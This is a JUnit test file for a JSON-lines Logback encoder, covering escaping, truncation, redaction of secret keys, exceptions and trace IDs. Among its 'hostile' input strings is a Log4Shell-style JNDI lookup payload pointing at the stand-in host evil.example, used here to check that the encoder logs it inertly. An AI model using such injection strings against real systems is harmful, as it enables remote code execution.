package dev.observa.logging;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.LoggingEvent;
import com.fasterxml.jackson.databind.JsonNode;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.slf4j.event.KeyValuePair;

class JsonLinesEncoderTest {
  private final LoggerContext context = new LoggerContext();
  private final JsonLinesEncoder encoder = new JsonLinesEncoder();

  JsonLinesEncoderTest() {
    context.setMDCAdapter(new ch.qos.logback.classic.util.LogbackMDCAdapter());
    encoder.setContext(context);
    encoder.setServiceName("svc");
    encoder.start();
  }

  private LoggingEvent event(String message) {
    return event(message, "main");
  }

  private LoggingEvent event(String message, String thread) {
    LoggingEvent event = new LoggingEvent("fqcn", context.getLogger("test.logger"), Level.INFO, message, null, null);
    event.setThreadName(thread);
    return event;
  }

  private String encode(LoggingEvent event) {
    return new String(encoder.encode(event), StandardCharsets.UTF_8);
  }

  private static JsonNode parseSingleLine(String encoded) throws Exception {
    assertThat(encoded).endsWith("\n");
    String body = encoded.substring(0, encoded.length() - 1);
    assertThat(body).doesNotContain("\n", "\r", "\u2028", "\u2029");
    return CapturedLines.JSON.readTree(body);
  }

  @Test
  void writesTheFixedFieldsWithMicrosecondUtcTimestamp() throws Exception {
    JsonNode line = parseSingleLine(encode(event("hello")));
    assertThat(line.path("timestamp").asText()).matches("\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{6}Z");
    assertThat(line.path("severity_text").asText()).isEqualTo("INFO");
    assertThat(line.path("scope.name").asText()).isEqualTo("test.logger");
    assertThat(line.path("thread.name").asText()).isEqualTo("main");
    assertThat(line.path("body").asText()).isEqualTo("hello");
    assertThat(line.path("service.name").asText()).isEqualTo("svc");
    assertThat(line.has("trace_id")).isFalse();
  }

  static Stream<String> hostileMessages() {
    return Stream.of("quote \" backslash \\ done", "new\nline", "carriage\rreturn", "tab\there", "nul\u0000byte",
        "bell\u0007", "del\u007f", "line\u2028separator", "para\u2029graph", "lone \ud800 high", "lone \udc00 low",
        "emoji 😀 pair", "${jndi:ldap://evil.example/a}", "", "{}", "ünïcödé");
  }

  @ParameterizedTest
  @MethodSource("hostileMessages")
  void hostileMessagesStayOneValidLineAndRoundTrip(String message) throws Exception {
    JsonNode line = parseSingleLine(encode(event(message)));
    assertThat(line.path("body").asText()).isEqualTo(message);
  }

  @Test
  void generatedMessagesAndFieldsAlwaysParseAndRoundTrip() throws Exception {
    Random random = new Random(20261124L);
    for (int i = 0; i < 2000; i++) {
      String message = randomString(random);
      String value = randomString(random);
      String key = randomString(random);
      LoggingEvent event = event(message);
      event.addKeyValuePair(new KeyValuePair("k" + i, value));
      event.addKeyValuePair(new KeyValuePair(key, "by-key"));
      event.addKeyValuePair(new KeyValuePair("n", random.nextLong()));
      JsonNode line = parseSingleLine(encode(event));
      assertThat(line.path("body").asText()).as("case %d", i).isEqualTo(message);
      assertThat(line.path("k" + i).asText()).as("case %d", i).isEqualTo(value);
      String expected = dev.observa.redaction.RedactionPolicy.defaults().isSecretKey(key) ? "[REDACTED]" : "by-key";
      assertThat(line.path(key).asText()).as("case %d", i).isIn(expected, message, "INFO", "main", "svc",
          "test.logger", line.path("timestamp").asText(), value);
    }
  }

  private static String randomString(Random random) {
    int length = random.nextInt(40);
    StringBuilder s = new StringBuilder(length);
    for (int j = 0; j < length; j++) {
      int kind = random.nextInt(6);
      s.append(switch (kind) {
        case 0 -> (char) random.nextInt(0x20);
        case 1 -> "\"\\\u2028\u2029".charAt(random.nextInt(4));
        case 2 -> (char) (0xd800 + random.nextInt(0x800));
        case 3 -> (char) (0x80 + random.nextInt(0xff00));
        default -> (char) (0x20 + random.nextInt(0x5f));
      });
    }
    return s.toString();
  }

  @Test
  void typedKeyValuesAreTopLevelAndKeepTheirJsonTypes() throws Exception {
    LoggingEvent event = event("typed");
    Map<String, Object> nested = new HashMap<>();
    nested.put("inner", List.of(1L, "two", true));
    event.addKeyValuePair(new KeyValuePair("attempt", 3L));
    event.addKeyValuePair(new KeyValuePair("ratio", 0.5));
    event.addKeyValuePair(new KeyValuePair("ok", true));
    event.addKeyValuePair(new KeyValuePair("nan", Double.NaN));
    event.addKeyValuePair(new KeyValuePair("nested", nested));
    event.addKeyValuePair(new KeyValuePair("backoff", java.time.Duration.ofSeconds(1)));
    event.addKeyValuePair(new KeyValuePair("nothing", null));
    JsonNode line = parseSingleLine(encode(event));
    assertThat(line.path("attempt").isIntegralNumber()).isTrue();
    assertThat(line.path("ratio").asDouble()).isEqualTo(0.5);
    assertThat(line.path("ok").isBoolean()).isTrue();
    assertThat(line.path("nan").asText()).isEqualTo("NaN");
    assertThat(line.path("nested").path("inner").get(1).asText()).isEqualTo("two");
    assertThat(line.path("backoff").asText()).isEqualTo("PT1S");
    assertThat(line.path("nothing").isNull()).isTrue();
  }

  @Test
  void cyclicMapsAndThrowingToStringStillYieldOneLineWithMarkers() throws Exception {
    Map<String, Object> cyclic = new HashMap<>();
    cyclic.put("self", cyclic);
    Object hostile = new Object() {
      @Override
      public String toString() {
        throw new IllegalStateException("nope");
      }
    };
    LoggingEvent event = event("still written");
    event.addKeyValuePair(new KeyValuePair("cyclic", cyclic));
    event.addKeyValuePair(new KeyValuePair("hostile", hostile));
    JsonNode line = parseSingleLine(encode(event));
    assertThat(line.path("body").asText()).isEqualTo("still written");
    assertThat(line.path("cyclic").path("self").asText()).isEqualTo("[cycle]");
    assertThat(line.path("hostile").asText()).contains("toString() failed").contains("IllegalStateException");
  }

  @Test
  void veryLongValuesAreTruncatedWithAMarker() throws Exception {
    encoder.setMaxValueLength(100);
    JsonNode line = parseSingleLine(encode(event("x".repeat(10_000))));
    assertThat(line.path("body").asText()).startsWith("x".repeat(100)).endsWith("…[truncated 9900 chars]");
  }

  @Test
  void secretKeysAreRedactedCaseInsensitivelyInKeyValuesAndMdc() throws Exception {
    LoggingEvent event = event("login");
    event.addKeyValuePair(new KeyValuePair("Password", "hunter2"));
    event.addKeyValuePair(new KeyValuePair("user", "bryan"));
    event.setMDCPropertyMap(Map.of("Authorization", "Bearer abc", "request", "r-1"));
    String encoded = encode(event);
    assertThat(encoded).doesNotContain("hunter2").doesNotContain("Bearer abc");
    JsonNode line = parseSingleLine(encoded);
    assertThat(line.path("Password").asText()).isEqualTo("[REDACTED]");
    assertThat(line.path("Authorization").asText()).isEqualTo("[REDACTED]");
    assertThat(line.path("user").asText()).isEqualTo("bryan");
    assertThat(line.path("request").asText()).isEqualTo("r-1");
  }

  @Test
  void exceptionsBecomeAnErrorObjectWithTheStackTraceAsOneString() throws Exception {
    LoggingEvent event = new LoggingEvent("fqcn", context.getLogger("t"), Level.ERROR, "failed",
        new IllegalStateException("bad\nthing"), null);
    JsonNode line = parseSingleLine(encode(event));
    assertThat(line.path("exception.type").asText()).isEqualTo("java.lang.IllegalStateException");
    assertThat(line.path("exception.message").asText()).isEqualTo("bad\nthing");
    assertThat(line.path("exception.stacktrace").asText()).contains("JsonLinesEncoderTest");
  }

  @Test
  void aFailingEventStillYieldsOneLineWithItsMessageAndAMarker() throws Exception {
    LoggingEvent event = new LoggingEvent("fqcn", context.getLogger("t"), Level.INFO, "kept", null, null) {
      @Override
      public Map<String, String> getMDCPropertyMap() {
        throw new IllegalStateException("broken MDC");
      }
    };
    JsonNode line = parseSingleLine(encode(event));
    assertThat(line.path("body").asText()).isEqualTo("kept");
    assertThat(line.path("encoding_error").asText()).isEqualTo("java.lang.IllegalStateException");
  }

  @Test
  void longMultiByteLinesRoundTripAcrossBufferGrowth() throws Exception {
    String message = "é😀\u2028x".repeat(5_000);
    for (int i = 0; i < 3; i++) {
      JsonNode line = parseSingleLine(encode(event(message)));
      assertThat(line.path("body").asText()).isEqualTo(message);
    }
    assertThat(parseSingleLine(encode(event("short"))).path("body").asText()).isEqualTo("short");
  }

  @Test
  void manyLinesAreEachOneObject() throws Exception {
    List<String> encoded = new ArrayList<>();
    for (int i = 0; i < 10; i++) {
      encoded.add(encode(event("line " + i + "\n")));
    }
    assertThat(String.join("", encoded).split("\n")).hasSize(10);
  }

  @Test
  void recurringThreadAndKeyNamesThatShareACacheSlotAreEachWrittenCorrectly() throws Exception {
    // "user"/"request_id" and "region"/"http-nio-8080-exec-1" collide in a naive 128-slot table
    for (int round = 0; round < 3; round++) {
      for (String thread : List.of("http-nio-8080-exec-1", "main", "worker-7")) {
        LoggingEvent event = event("m", thread);
        event.setMDCPropertyMap(Map.of("request_id", "r-1", "user", "u", "region", "eu"));
        JsonNode line = parseSingleLine(encode(event));
        assertThat(line.path("thread.name").asText()).isEqualTo(thread);
        assertThat(line.path("request_id").asText()).isEqualTo("r-1");
        assertThat(line.path("user").asText()).isEqualTo("u");
        assertThat(line.path("region").asText()).isEqualTo("eu");
      }
    }
  }

  @Test
  void manyDistinctRecurringNamesNeverMixUpTheirValues() throws Exception {
    for (int i = 0; i < 1000; i++) {
      LoggingEvent event = event("m", "thread-" + i);
      event.addKeyValuePair(new KeyValuePair("key_" + (i % 300), i));
      JsonNode line = parseSingleLine(encode(event));
      assertThat(line.path("thread.name").asText()).isEqualTo("thread-" + i);
      assertThat(line.path("key_" + (i % 300)).asInt()).isEqualTo(i);
    }
  }

  @Test
  void successiveSpansGetTheirOwnIdsOnTheSameThread() throws Exception {
    String[][] ids = {{"4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7"},
        {"0af7651916cd43dd8448eb211c80319c", "b7ad6b7169203331"}, {"4bf92f3577b34da6a3ce929d0e0e4736", "1111111111111111"}};
    for (String[] id : ids) {
      io.opentelemetry.api.trace.SpanContext span = io.opentelemetry.api.trace.SpanContext.create(id[0], id[1],
          io.opentelemetry.api.trace.TraceFlags.getSampled(), io.opentelemetry.api.trace.TraceState.getDefault());
      try (var scope = io.opentelemetry.api.trace.Span.wrap(span).makeCurrent()) {
        JsonNode line = parseSingleLine(encode(event("in span")));
        assertThat(line.path("trace_id").asText()).isEqualTo(id[0]);
        assertThat(line.path("span_id").asText()).isEqualTo(id[1]);
      }
    }
  }

  @Test
  void encodeToStreamWritesExactlyTheBytesOfEncode() throws Exception {
    LoggingEvent event = event("to a stream \u00e9 \"quoted\"");
    event.setMDCPropertyMap(Map.of("request_id", "r-9"));
    event.setThrowableProxy(new ch.qos.logback.classic.spi.ThrowableProxy(new IllegalStateException("boom")));
    java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
    encoder.encodeTo(event, out);
    String streamed = out.toString(StandardCharsets.UTF_8);
    String copied = encode(event);
    // the timestamp is the event's own, so both lines are identical
    assertThat(streamed).isEqualTo(copied);
    assertThat(parseSingleLine(streamed).path("exception.stacktrace").asText())
        .startsWith("java.lang.IllegalStateException: boom\n\tat ");
  }
}
